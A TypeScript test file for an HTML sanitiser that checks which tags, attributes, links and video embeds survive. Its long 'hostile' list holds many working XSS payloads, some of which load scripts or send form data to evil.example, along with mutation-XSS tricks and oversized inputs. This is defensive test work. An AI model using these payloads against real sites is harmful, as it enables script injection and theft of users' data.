import { describe, expect, test } from "vitest";

import { sanitiseBody, toText } from "./sanitise.ts";

const MEDIA_BASE = "/dashboard/media/";
const page = new URL("https://members.example/dashboard/");
const sanitise = (html: string) => sanitiseBody(html, MEDIA_BASE);

type Tag = { name: string; isEnd: boolean; attributes: [name: string, value: string][] };

/** The only forms of markup and text that may come out: whatever parser reads this sees the same tags. */
const canonical =
  /<(?<slash>\/?)(?<name>[a-z][a-z0-9]*)(?<attributes>(?: [a-z-]+(?:="[^"<>]*")?)*)(?: \/)?>|[^<>&]+|&(?:amp|lt|gt|quot);/gy;

/** Reads the tags of some HTML. @throws on markup in any other than the canonical form. */
function readTags(html: string): Tag[] {
  const tags: Tag[] = [];
  let end = 0;
  for (const { 0: piece, index, groups } of html.matchAll(canonical)) {
    end = index + piece.length;
    if (!groups?.name) continue;
    const attributes = [...(groups.attributes ?? "").matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)].map(
      ([, name = "", value = ""]): [string, string] => [name, unescape(value)],
    );
    tags.push({ name: groups.name, isEnd: groups.slash === "/", attributes });
  }
  if (end !== html.length) throw new Error(`not canonical from here on: ${html.slice(end, end + 80)}`);
  return tags;
}

function unescape(value: string): string {
  return value.replaceAll("&quot;", '"').replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&amp;", "&");
}

const tagNames = new Set(
  (
    "h2 h3 h4 h5 h6 p br hr blockquote pre code section div ul ol li dl dt dd a em strong b i u s del ins mark small q " +
    "sub sup abbr cite time kbd figure figcaption img iframe details summary table caption thead tbody tfoot tr th td"
  ).split(" "),
);

/** Attributes by tag, and the values they may have; nothing else may come out. */
const attributeRules: Record<string, (value: string) => boolean> = {
  "* id": (value) => /^text-[\w:.-]+$/.test(value),
  "* lang": () => true,
  "* dir": () => true,
  "a href": isHarmlessLink,
  "a rel": (value) => value === "noopener noreferrer",
  "a aria-label": () => true,
  "img src": (value) => value.startsWith("/") && URL.parse(value, page)?.origin === page.origin,
  "img alt": () => true,
  "img width": () => true,
  "img height": () => true,
  "img loading": (value) => value === "lazy",
  "img decoding": (value) => value === "async",
  "iframe src": (value) =>
    /^https:\/\/(?:www\.youtube-nocookie\.com\/embed\/[\w-]+|player\.vimeo\.com\/video\/\d+\?(?:h=\w+&)?dnt=1)$/.test(
      value,
    ),
  "iframe title": () => true,
  "iframe loading": (value) => value === "lazy",
  "iframe allow": (value) => value === "fullscreen; picture-in-picture",
  "iframe allowfullscreen": (value) => value === "",
  "iframe referrerpolicy": (value) => value === "strict-origin-when-cross-origin",
  "ol start": () => true,
  "ol reversed": () => true,
  "td colspan": () => true,
  "td rowspan": () => true,
  "th colspan": () => true,
  "th rowspan": () => true,
  "th scope": () => true,
  "time datetime": () => true,
  "details class": (value) => value === "embed",
  "div class": (value) => value === "table-scroll",
  "div tabindex": (value) => value === "0",
};

/** As a browser resolves it: to another host only when it says so. */
function isHarmlessLink(value: string): boolean {
  const url = URL.parse(value, page);
  if (!url) return true; // It leads nowhere.
  if (url.protocol === "mailto:" || url.protocol === "tel:" || url.origin === page.origin) return true;
  return /^https?:$/.test(url.protocol) && /^https?:\/\/\w/i.test(value);
}

/** What is wrong with a sanitised text; nothing, if all is well. */
function dangersOf(html: string): string[] {
  const dangers: string[] = [];
  for (const { name, attributes } of readTags(html)) {
    if (!tagNames.has(name)) dangers.push(`<${name}>`);
    for (const [attribute, value] of attributes) {
      const rule = attributeRules[`${name} ${attribute}`] ?? attributeRules[`* ${attribute}`];
      if (!rule?.(value)) dangers.push(`<${name} ${attribute}="${value}">`);
    }
  }
  const isOpen = html.replace(/<\/summary><iframe [^<>]*><\/iframe><\/details>/g, "").includes("<iframe");
  if (isOpen) dangers.push("a frame that is not folded away");
  return dangers;
}

describe("the guard of these tests", () => {
  test.each([
    "<p><script></script></p>",
    '<p onclick="x">a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="//evil.example">a</a>',
    '<a href="/\\evil.example">a</a>',
    '<img src="https://evil.example/x.png" />',
    '<img src="//evil.example/x.png" />',
    '<iframe src="https://www.youtube.com/embed/M7lc1UVf-VE"></iframe>',
    '<p id="root">a</p>',
    '<div class="modal">a</div>',
    `<iframe src="https://www.youtube-nocookie.com/embed/M7lc1UVf-VE"></iframe>`,
    "<svg></svg>",
  ])("sees the danger of %s", (html) => expect(dangersOf(html)).not.toEqual([]));

  test.each(["<p", "<P>a</P>", "a < b", "<p id='text-x'>", "<!-- x -->", "<p id=text-x>", "&#106;", "<p/onclick>"])(
    "does not read %s",
    (html) => expect(() => readTags(html)).toThrow("not canonical"),
  );
});

const hostile: [what: string, html: string][] = [
  // Scripts
  ["a script", "<script>alert(1)</script>"],
  ["a script in capitals", "<SCRIPT>alert(1)</SCRIPT>"],
  ["a script in mixed case", "<ScRiPt>alert(1)</sCrIpT>"],
  ["a script from elsewhere", '<script src="https://evil.example/x.js"></script>'],
  ["a script with a stroke for a space", '<script/src="https://evil.example/x.js"></script>'],
  ["a script with a space in its end", "<script>alert(1)</script >"],
  ["a script with a line break in its tag", "<script\n>alert(1)</script\n>"],
  ["an unclosed script", "<script>alert(1)"],
  ["a script without its bracket", "<script src=//evil.example/x.js "],
  ["a script inside a script", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["a script behind two brackets", "<<script>alert(1)//<</script>"],
  ["a script behind a null byte", "<scr\0ipt>alert(1)</scr\0ipt>"],
  ["a script with null bytes about it", "\0<\0script\0>alert(1)</script>"],
  ["a module", '<script type="module">import "https://evil.example/x.js"</script>'],
  ["a script in a longer name", "<scriptx>alert(1)</scriptx><script-x></script-x>"],
  ["full-width brackets", "＜script＞alert(1)＜/script＞"],
  ["a script in entities", "&lt;script&gt;alert(1)&lt;/script&gt;"],
  ["a script in numbers", "&#60;script&#62;alert(1)&#x3c;/script&#x3E;"],
  // Handlers
  ["a handler", '<img src="/x.png" onerror="alert(1)">'],
  ["a handler in capitals", '<IMG SRC="/x.png" ONERROR="alert(1)">'],
  ["a handler without quotes", "<p onclick=alert(1)>a</p>"],
  ["a handler in back-quotes", "<p onclick=`alert(1)`>a</p>"],
  ["a handler after a stroke", '<img/src="/x.png"/onerror=alert(1)>'],
  ["a handler after a form feed", '<img src="/x.png"\fonerror=alert(1)>'],
  ["a handler after a broken attribute", '<img """><img src=x onerror=alert(1)>">'],
  ["a handler with a null byte", '<p on\0click="alert(1)">a</p>'],
  ["a handler by focus", '<p tabindex="1" autofocus onfocus="alert(1)">a</p>'],
  ["a handler by animation", '<p style="animation-name:x" onanimationstart="alert(1)">a</p>'],
  ["a handler by toggling", '<details open ontoggle="alert(1)"><summary>a</summary></details>'],
  ["a handler on the body", '<body onload="alert(1)">a</body>'],
  ["a handler on a frame", '<iframe src="https://youtu.be/M7lc1UVf-VE" onload="alert(1)"></iframe>'],
  ["a handler in the quotes of another attribute", `<img src="/x.png" alt='"onerror="alert(1)'>`],
  ["a handler in entities", '<img src="/x.png" alt="&quot; onerror=&quot;alert(1)">'],
  ["a handler on an unknown tag", '<x-y onclick="alert(1)">a</x-y>'],
  // Addresses
  ["a javascript: link", '<a href="javascript:alert(1)">a</a>'],
  ["a javascript: link in mixed case", '<a href="JaVaScRiPt:alert(1)">a</a>'],
  ["a javascript: link after spaces", '<a href="  javascript:alert(1)">a</a>'],
  ["a javascript: link with a tab", '<a href="java\tscript:alert(1)">a</a>'],
  ["a javascript: link with a line break", '<a href="java\nscript:alert(1)">a</a>'],
  ["a javascript: link with a carriage return before the colon", '<a href="javascript\r:alert(1)">a</a>'],
  ["a javascript: link with a tab in an entity", '<a href="java&#x09;script:alert(1)">a</a>'],
  ["a javascript: link with named entities", '<a href="java&Tab;script&colon;alert(1)">a</a>'],
  [
    "a javascript: link in numbers",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  ],
  ["a javascript: link in numbers without ends", '<a href="&#0000106avascript:alert(1)">a</a>'],
  ["a javascript: link after a control character", '<a href="&#1;javascript:alert(1)">a</a>'],
  ["a javascript: link after a null byte", '<a href="\0javascript:alert(1)">a</a>'],
  ["a javascript: link without quotes", "<a href=javascript:alert(1)>a</a>"],
  ["a javascript: link after a comment", '<a href="java<!-- -->script:alert(1)">a</a>'],
  ["a javascript: link with two addresses", '<a href="https://x.example" href="javascript:alert(1)">a</a>'],
  ["a javascript: picture", '<img src="javascript:alert(1)">'],
  ["a javascript: frame", '<iframe src="javascript:alert(1)"></iframe>'],
  ["a vbscript: link", '<a href="vbscript:msgbox(1)">a</a>'],
  ["a data: link", '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  ["a data: link in base 64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>'],
  ["a data: picture", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ["a blob: link", '<a href="blob:https://members.example/1">a</a>'],
  ["a file: link", '<a href="file:///etc/passwd">a</a>'],
  ["an unknown scheme", '<a href="dormouse:open">a</a>'],
  ["a link to another host without its scheme", '<a href="//evil.example/">a</a>'],
  ["a link with a stroke each way", '<a href="/\\evil.example/">a</a>'],
  ["a link with backward strokes", '<a href="\\\\evil.example/">a</a>'],
  ["a link with a tab between its strokes", '<a href="/\t/evil.example/">a</a>'],
  ["a link after a space", '<a href=" //evil.example/">a</a>'],
  ["a link that pings", '<a href="https://x.example" ping="https://evil.example" target="_top" download>a</a>'],
  ["an xlink", '<a xlink:href="javascript:alert(1)">a</a>'],
  ["a quotation's source", '<blockquote cite="javascript:alert(1)">a</blockquote><q cite="javascript:alert(1)">b</q>'],
  // Pictures and films of other hosts
  ["a remote picture", '<img src="https://evil.example/x.png" alt="x">'],
  ["a remote picture without its scheme", '<img src="//evil.example/x.png">'],
  ["a remote picture with a stroke each way", '<img src="/\\evil.example/x.png">'],
  ["a remote picture with a tab between its strokes", '<img src="/&#9;/evil.example/x.png">'],
  ["a remote picture with a line break between its strokes", '<img src="/\n/evil.example/x.png">'],
  [
    "a remote picture in disguise",
    '<img src="media/../../../evil.example/x.png"><img src="media//evil.example/x.png">',
  ],
  ["a set of remote pictures", '<img src="media/a.webp" srcset="https://evil.example/x.png 2x" sizes="1px">'],
  [
    "a picture element",
    '<picture><source srcset="https://evil.example/x.png"><img src="https://evil.example/x"></picture>',
  ],
  ["an old picture", '<image src="https://evil.example/x.png" onerror="alert(1)">'],
  ["an old picture's other source", '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">'],
  ["a picture map", '<map name="m"><area href="javascript:alert(1)"></map><img src="/x.png" usemap="#m">'],
  ["a remote film", '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay></video>'],
  ["a film that fails", "<video><source onerror=alert(1)></video>"],
  ["a remote sound", '<audio src="https://evil.example/x.mp3" onerror="alert(1)"></audio>'],
  [
    "a background",
    '<table background="https://evil.example/x.png"><tr><td background="javascript:alert(1)">a</td></tr></table>',
  ],
  // Frames
  ["a frame of another host", '<iframe src="https://evil.example/"></iframe>'],
  [
    "a frame of a host that looks alike",
    '<iframe src="https://www.youtube.com.evil.example/embed/M7lc1UVf-VE"></iframe>',
  ],
  ["a frame of a host that ends alike", '<iframe src="https://evilyoutube.com/embed/M7lc1UVf-VE"></iframe>'],
  [
    "a frame with a false name in front",
    '<iframe src="https://www.youtube.com@evil.example/embed/M7lc1UVf-VE"></iframe>',
  ],
  ["a frame with a host in its path", '<iframe src="https://evil.example/www.youtube.com/embed/M7lc1UVf-VE"></iframe>'],
  ["a frame that breaks out of its address", `<iframe src='https://youtu.be/"onload="alert(1)'></iframe>`],
  ["a frame with a document of its own", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["a good frame with a document of its own", '<iframe src="https://youtu.be/M7lc1UVf-VE" srcdoc="<script>"></iframe>'],
  [
    "a good frame with a title that breaks out",
    '<iframe src="https://youtu.be/M7lc1UVf-VE" title="&quot;><script>"></iframe>',
  ],
  ["a frame without an address", '<iframe name="x"></iframe>'],
  ["an unclosed frame", '<iframe src="https://evil.example/"><p>a'],
  ["a set of frames", '<frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset>'],
  // Foreign content, and what changes when it is read a second time
  ["an svg", '<svg onload="alert(1)"></svg>'],
  ["an svg with a stroke", "<svg/onload=alert(1)>"],
  ["an svg script", "<svg><script>alert(1)</script></svg>"],
  ["an svg script in entities", "<svg><script>&#97;lert(1)</script></svg>"],
  ["an svg animation", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>a</text></a></svg>'],
  ["an svg with HTML inside", '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
  ["an svg use", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>'],
  ["a style in an svg", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ["a formula", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>'],
  ["a formula with a link", '<math href="javascript:alert(1)">a</math>'],
  [
    "a comment in a formula's style",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ["a form in a formula", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"],
  ["a no-script that ends in an attribute", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  [
    "a template",
    "<template><script>alert(1)</script></template><template shadowrootmode=open><script>alert(1)</script></template>",
  ],
  ["a text box that ends in an attribute", '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'],
  ["a title that ends in an attribute", '<title><p title="</title><img src=x onerror=alert(1)>">'],
  ["a select that ends early", "<select><option><style></option></select><img src=x onerror=alert(1)></style>"],
  ["old plain text", "<xmp><img src=x onerror=alert(1)></xmp><listing><b onclick=alert(1)></listing>"],
  ["the end of all markup", "<plaintext><img src=x onerror=alert(1)>"],
  [
    "frames and embeds that are not shown",
    '<noembed><img src=x onerror="alert(1)"></noembed><noframes><img src=x></noframes>',
  ],
  // Page furniture
  ["a style", "<style>body{display:none}</style>"],
  ["a style that imports", '<style>@import "https://evil.example/x.css";</style>'],
  ["a style attribute", '<p style="background:url(https://evil.example/x.png)">a</p>'],
  ["a style attribute with a script", '<p style="width:expression(alert(1));-moz-binding:url(x)">a</p>'],
  ["a style sheet", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  [
    "a link that fetches",
    '<link rel="prefetch" href="https://evil.example/"><link rel="dns-prefetch" href="//evil.example">',
  ],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["a base", '<base href="https://evil.example/"><a href="x">a</a>'],
  [
    "a form",
    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
  ],
  [
    "a button of a form elsewhere",
    '<button form="log-out" name="intent" value="log-out">Go</button><input type="image" src="//evil.example/x">',
  ],
  ["an object", '<object data="data:text/html,<script>alert(1)</script>" type="text/html"></object>'],
  ["an embed", '<embed src="https://evil.example/x.swf" allowscriptaccess="always">'],
  ["an applet", '<applet code="x.class" codebase="https://evil.example/"></applet>'],
  ["a key generator", '<keygen autofocus onfocus="alert(1)">'],
  ["a marquee", '<marquee onstart="alert(1)">a</marquee>'],
  ["a dialog", '<dialog open onclose="alert(1)">a</dialog>'],
  ["a pop-over", '<p popover id="x" onbeforetoggle="alert(1)">a</p><button popovertarget="x">b</button>'],
  ["a slot and a custom element", '<slot onslotchange="alert(1)"></slot><dormouse-menu is="x">a</dormouse-menu>'],
  ["text to be edited", '<p contenteditable="true" accesskey="x" draggable="true" inert hidden>a</p>'],
  // Names that get in the way of the page's own
  [
    "an id that a script looks for",
    '<p id="root">a</p><a id="document">b</a><img src="/x.png" name="getElementById" id="cookie">',
  ],
  ["an id with markup in it", `<p id='"><script>alert(1)</script>'>a</p>`],
  ["an id with spaces", '<p id="a b">a</p><p id="">b</p>'],
  ["a class of the page's own", '<div class="modal-open table-scroll" tabindex="5">a</div>'],
  ["a name for screen readers", '<p role="alert" aria-live="assertive" aria-hidden="true">a</p>'],
  // Markup that is not what it seems
  ["a comment", "<!-- <script>alert(1)</script> -->"],
  ["a comment that ends early", "<!--><script>alert(1)</script>-->"],
  ["a comment that ends oddly", "<!-- --!><img src=x onerror=alert(1)> -->"],
  ["an unclosed comment", "<!-- <img src=x onerror=alert(1)>"],
  ["a conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"],
  ["a revealed conditional comment", "<![if IE]><img src=x onerror=alert(1)><![endif]>"],
  ["character data", "<![CDATA[<img src=x onerror=alert(1)>]]>"],
  ["character data that ends early", "<![CDATA[><img src=x onerror=alert(1)>]]>"],
  [
    "a processing instruction",
    '<?xml-stylesheet href="javascript:alert(1)"?><?php echo "<img src=x onerror=alert(1)>" ?>',
  ],
  ["a document type", '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;'],
  ["a server's own tag", '<% alert(1) %><script language="x">alert(1)</script>'],
  ["unclosed tags", "<div><p><b><i><a href='javascript:alert(1)'><table><tr><td>a"],
  ["tags that cross", "<b><p><i></b>a</p></i><a><table><a></table></a>"],
  ["ends without beginnings", "</p></div></table></script></iframe></svg><//><//p>"],
  ["an unclosed attribute", '<a href="https://x.example onclick=alert(1)>a</a>'],
  ["an attribute with no name", '<p ="x" =onclick="alert(1)">a</p>'],
  ["an attribute with brackets", '<p <script>alert(1)</script> onclick="alert(1)">a</p>'],
  ["a bracket and no more", "<"],
  ["an opening and no more", "a <p"],
  ["a stroke and no more", "</"],
  ["a link in a link", '<a href="https://x.example"><a href="javascript:alert(1)">a</a></a>'],
  ["old character sets", "+ADw-script+AD4-alert(1)+ADw-/script+AD4- ¼script¾alert(1)¼/script¾"],
  ["a turned direction and a byte order mark", "\u202E\uFEFF<\u200Bscript>alert(1)</script>"],
  ["half a character", "\uD800<script>alert(1)</script>\uDC00"],
];

/** What may stand about a threat, and help it. */
const places: [where: string, surround: (html: string) => string][] = [
  ["by itself", (html) => html],
  ["in a table", (html) => `<table><tr><td>${html}</td></tr></table>`],
  ["in a link in a list", (html) => `<ul><li><a href="https://x.example">${html}</a></li></ul>`],
  ["in an svg", (html) => `<svg>${html}</svg>`],
  ["in a formula", (html) => `<math><mtext>${html}</mtext></math>`],
  ["in a style", (html) => `<style>${html}</style>`],
  ["in a text box", (html) => `<textarea>${html}</textarea>`],
  ["in old plain text", (html) => `<xmp>${html}</xmp>`],
  ["in an attribute", (html) => `<img src="media/a.webp" alt="${html}">`],
  ["after an unclosed quote", (html) => `<p title="${html}`],
  ["in a comment", (html) => `<!-- ${html} -->`],
  ["twice", (html) => html + html],
];

test.each(hostile)("%s comes out harmless, wherever it stands", (_, html) => {
  for (const [where, surround] of places) expect(dangersOf(sanitise(surround(html))), `found ${where}`).toEqual([]);
});

test.each(hostile)("%s does not cost the words before it", (_, html) => {
  expect(sanitise(`<p>Sleep well.</p>${html}`)).toMatch(/^<p>Sleep well\.<\/p>/);
});

test("the code of a script and of a style is not shown as text", () => {
  expect(sanitise("a<script>alert(1)</script><style>p{}</style><template>t</template>b")).toBe("ab");
});

test("nesting stops at a depth that no writer needs", () => {
  const depth = 3000;
  const html = sanitise(`${"<div>".repeat(depth)}deep${"</div>".repeat(depth)}`);
  expect(dangersOf(html)).toEqual([]);
  expect(html.match(/<div>/g)?.length).toBeLessThanOrEqual(41);
  expect(html).toContain("deep");
});

test.each([
  ["brackets", "<".repeat(200_000)],
  ["unclosed bold words", "<b>x".repeat(20_000)],
  ["ends", "</p>".repeat(100_000)],
  ["ampersands", "&".repeat(200_000)],
  ["comments", "<!--".repeat(50_000)],
  ["quotes", `<p title="${"'".repeat(200_000)}`],
  ["tables", "<table><tr><td>x".repeat(5000)],
  ["attributes", `<p ${Array.from({ length: 20_000 }, (_, index) => `a${index}=1`).join(" ")}>x`],
])("a great many %s do not stop the house", (_, html) => {
  expect(dangersOf(sanitise(html))).toEqual([]);
});

test("a book of a million letters stays whole", () => {
  const book = "<p>Sleep comes when you are sleepy enough &amp; not on guard.</p>\n".repeat(16_000);
  expect(book.length).toBeGreaterThan(1_000_000);
  expect(sanitise(book)).toBe(book);
});

describe("what stays", () => {
  test.each([
    "Plain words",
    "<p>One.</p>\n<p>Two.</p>",
    "<h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>",
    "<ul><li>One</li><li>Two<ul><li>Three</li></ul></li></ul>",
    '<ol start="3"><li>Three</li></ol>',
    "<dl><dt>REM</dt><dd>A kind of sleep</dd></dl>",
    "<blockquote><p>You are allowed not to know what time it is.</p></blockquote>",
    "<p><em>a</em> <strong>b</strong> <b>c</b> <i>d</i> <u>e</u> <s>f</s> <del>g</del> <ins>h</ins> <mark>i</mark></p>",
    "<p><small>a</small> <q>b</q> H<sub>2</sub>O <sup>1</sup> <abbr>GP</abbr> <cite>c</cite> <kbd>d</kbd></p>",
    '<p><time datetime="2026-11-20T03:00">three</time></p>',
    "<pre><code>if (tired) sleep();\n  wait();</code></pre>",
    "<section><div>a</div></section>",
    '<p lang="fr" dir="ltr">Bonne nuit</p>',
    "<p>Under 5 &lt; 6 &amp; 7 &gt; 6</p>",
    "<p>Good night 🌙 – “quoted”, naïve</p>",
  ])("%s", (html) => expect(sanitise(html)).toBe(html));

  test("line breaks and rules", () => {
    expect(sanitise("<p>a<br>b</p><hr>")).toBe("<p>a<br />b</p><hr />");
  });

  test("the words within a tag that goes", () => {
    expect(sanitise('<center><font color="red">Sleep <span>well</span></font></center>')).toBe("Sleep well");
  });

  test("entities, as the characters they stand for", () => {
    expect(sanitise("<p>can&#8217;t &mdash; caf&eacute; &#x1F319;</p>")).toBe("<p>can’t — café 🌙</p>");
  });

  test("nothing of nothing", () => expect(sanitise("")).toBe(""));
});

describe("headings", () => {
  test("a heading of the first rank steps back to the second: the page has one already", () => {
    expect(sanitise('<h1 id="why">Why</h1><H1>How</H1>')).toBe('<h2 id="text-why">Why</h2><h2>How</h2>');
  });
});

describe("links and ids", () => {
  test.each([
    ["https://example.org/a?b=1&amp;c=2#d", "https://example.org/a?b=1&amp;c=2#d"],
    ["http://example.org", "http://example.org"],
    ["mailto:hello@example.org", "mailto:hello@example.org"],
    ["tel:999", "tel:999"],
    ["/dashboard?view=read", "/dashboard?view=read"],
  ])("a link to %s leads there, and lends the other page nothing", (href, out) => {
    expect(sanitise(`<a href="${href}" target="_blank" rel="opener">a</a>`)).toBe(
      `<a rel="noopener noreferrer" href="${out}">a</a>`,
    );
  });

  test("a footnote and its mark keep finding each other under their prefixed ids", () => {
    const html = sanitise(
      '<p>Words.<sup><a href="#note-1" id="note-ref-1" data-footnote-ref>1</a></sup></p>' +
        '<section class="footnotes" data-footnotes><ol><li id="note-1">Note.' +
        '<a href="#note-ref-1" aria-label="Back to reference 1" data-footnote-backref>↩</a></li></ol></section>',
    );
    expect(dangersOf(html)).toEqual([]);
    expect(html).toContain('<a href="#text-note-1" id="text-note-ref-1">1</a>');
    expect(html).toContain(
      '<li id="text-note-1">Note.<a aria-label="Back to reference 1" href="#text-note-ref-1">↩</a>',
    );
  });

  test("a heading that is linked to is reached", () => {
    expect(sanitise('<a href="#why">a</a><h3 id="why">b</h3>')).toBe(
      '<a href="#text-why">a</a><h3 id="text-why">b</h3>',
    );
  });
});

describe("pictures", () => {
  test("a picture of ours is served from the media address, and loads when it is near", () => {
    expect(sanitise('<img src="media/moon.webp" alt="A full moon" width="1200" height="675">')).toBe(
      '<img alt="A full moon" width="1200" height="675" src="/dashboard/media/moon.webp" loading="lazy" decoding="async" />',
    );
  });

  test("the media address follows the base path", () => {
    expect(sanitiseBody('<img src="media/moon.webp">', "/members/dashboard/media/")).toContain(
      'src="/members/dashboard/media/moon.webp"',
    );
  });

  test("a picture without words has an empty alternative", () => {
    expect(sanitise('<img src="media/moon.webp">')).toContain('alt=""');
  });

  test("a picture cannot ask to be loaded at once", () => {
    expect(sanitise('<img src="media/moon.webp" loading="eager" decoding="sync">')).toContain(
      'loading="lazy" decoding="async"',
    );
  });

  test("a picture in a figure keeps its caption, and a figure that lost its picture keeps it too", () => {
    expect(sanitise('<figure><img src="media/a.webp" alt=""><figcaption>A moon</figcaption></figure>')).toMatch(
      /^<figure><img [^>]+><figcaption>A moon<\/figcaption><\/figure>$/,
    );
    expect(sanitise('<figure><img src="https://evil.example/a.webp"><figcaption>A moon</figcaption></figure>')).toBe(
      "<figure><figcaption>A moon</figcaption></figure>",
    );
  });
});

describe("tables", () => {
  const table = "<table><thead><tr><th>Cup</th></tr></thead><tbody><tr><td>Tea</td></tr></tbody></table>";

  test("a table scrolls by itself, and can be reached by keyboard", () => {
    expect(sanitise(table)).toBe(`<div class="table-scroll" tabindex="0">${table}</div>`);
  });

  test("each of two tables scrolls by itself", () => {
    expect(sanitise(`${table}<p>and</p>${table}`)).toBe(
      `<div class="table-scroll" tabindex="0">${table}</div><p>and</p><div class="table-scroll" tabindex="0">${table}</div>`,
    );
  });

  test("a table keeps its spans, its scopes and its caption", () => {
    const spans =
      '<table><caption>Cups</caption><tr><th colspan="2" scope="col">a</th><td rowspan="3">b</td></tr></table>';
    expect(sanitise(spans)).toContain(spans);
  });

  test("an unclosed table is closed within its scroll", () => {
    expect(sanitise("<table><tr><td>a")).toBe(
      '<div class="table-scroll" tabindex="0"><table><tr><td>a</td></tr></table></div>',
    );
  });
});

describe("embeds", () => {
  const youtube = "https://www.youtube-nocookie.com/embed/M7lc1UVf-VE";
  const vimeo = "https://player.vimeo.com/video/76979871?dnt=1";

  test.each([
    ["https://www.youtube.com/embed/M7lc1UVf-VE", "YouTube", youtube],
    ["https://www.youtube.com/embed/M7lc1UVf-VE?autoplay=1&amp;rel=0", "YouTube", youtube],
    ["https://www.youtube.com/watch?v=M7lc1UVf-VE", "YouTube", youtube],
    ["https://youtu.be/M7lc1UVf-VE", "YouTube", youtube],
    ["https://www.youtube-nocookie.com/embed/M7lc1UVf-VE", "YouTube", youtube],
    ["https://player.vimeo.com/video/76979871?autoplay=1", "Vimeo", vimeo],
    ["https://vimeo.com/76979871", "Vimeo", vimeo],
  ])("%s waits in a closed fold, and is then played by %s without a cookie", (src, host, address) => {
    const html = sanitise(
      `<iframe src="${src}" width="560" allow="autoplay; clipboard-write" loading="eager"></iframe>`,
    );
    expect(dangersOf(html)).toEqual([]);
    expect(html).toBe(
      `<details class="embed"><summary>Play the video from ${host}</summary>` +
        `<iframe src="${address}" title="Video" loading="lazy" allow="fullscreen; picture-in-picture"` +
        ' allowfullscreen referrerpolicy="strict-origin-when-cross-origin"></iframe></details>',
    );
  });

  test("an unlisted film keeps its key", () => {
    const html = sanitise('<iframe src="https://player.vimeo.com/video/123?h=abcdef"></iframe>');
    expect(html).toContain('src="https://player.vimeo.com/video/123?h=abcdef&amp;dnt=1"');
  });

  test("an embed keeps the title it was given", () => {
    const html = sanitise('<iframe src="https://youtu.be/M7lc1UVf-VE" title="Breathe &quot;slowly&quot;"></iframe>');
    expect(html).toContain(' title="Breathe &quot;slowly&quot;"');
  });

  test("an embed of another host goes, and the words about it stay", () => {
    expect(sanitise('<p>a</p><iframe src="https://evil.example/"></iframe><p>b</p>')).toBe("<p>a</p><p>b</p>");
  });
});

describe("the text of some HTML", () => {
  test.each([
    ["A &amp; B&#8217;s &quot;caf&eacute;&quot;", 'A & B’s "café"'],
    ["5 &lt; 6 &gt; 4", "5 < 6 > 4"],
    ["&amp;lt; &amp;amp;", "&lt; &amp;"],
    ["I <3 sleep", "I <3 sleep"],
    ["a &nbsp; b\n\tc", "a b c"],
    ["  <p> a </p>  ", "a"],
    ["<p>One.</p><p>Two.</p>", "One. Two."],
    ["<h2>Why</h2>Because", "Why Because"],
    ["<ul><li>a</li><li>b</li></ul>", "a b"],
    ["a<br>b<br/>c", "a b c"],
    ["<table><tr><th>a</th><td>b</td></tr><tr><td>c</td></tr></table>", "a b c"],
    ["<figure>a<figcaption>b</figcaption></figure>c", "a b c"],
    ["<blockquote>a</blockquote><div>b</div><section>c</section>d", "a b c d"],
    ["<DIV>a</DIV><P>b", "a b"],
    ["sl<em>ee</em>p", "sleep"],
    ["H<sub>2</sub>O", "H2O"],
    ["a<script>alert(1)</script><style>p{}</style>b", "ab"],
    ["<!-- hidden -->shown", "shown"],
    ["", ""],
    ["<p> </p>", ""],
  ])("%j reads %j", (html, text) => expect(toText(html)).toBe(text));
});

test.each(["words", "\n", "<p>words</p>", "<iframe src='https://youtu.be/M7lc1UVf-VE'></iframe>"])(
  "a frame with %j inside is emptied and folded like any other",
  (inside) => {
    const html = sanitise(`<p>a</p><iframe src="https://youtu.be/M7lc1UVf-VE">${inside}</iframe><p>b</p>`);
    expect(html).toMatch(/<details class="embed"><summary>[^<]*<\/summary><iframe [^>]*><\/iframe><\/details>/);
    expect(html.match(/<iframe/g)).toHaveLength(html.match(/<details/g)?.length ?? 0);
    expect(html).not.toContain("words<");
  },
);

test("an embed is named after its host, whatever its title says", () => {
  expect(sanitise('<iframe src="https://youtu.be/M7lc1UVf-VE" title="better than vimeo"></iframe>')).toContain(
    "from YouTube",
  );
  expect(sanitise('<iframe src="https://vimeo.com/76979871"></iframe>')).toContain("from Vimeo");
});

test("a table scrolls whatever it carries, and one within another scrolls with it", () => {
  expect(sanitise('<table id="t" lang="en"><tr><td>a</td></tr></table>')).toMatch(
    /^<div class="table-scroll" tabindex="0"><table /,
  );
  const nested = sanitise("<table><tr><td><table><tr><td>a</td></tr></table></td><td>b</td></tr></table>");
  expect(nested.match(/table-scroll/g)).toHaveLength(1);
  expect(nested.endsWith("</table></div>")).toBe(true);
});

test.each([
  ["<dl><dt>a</dt><dd>b</dd></dl>", "a b"],
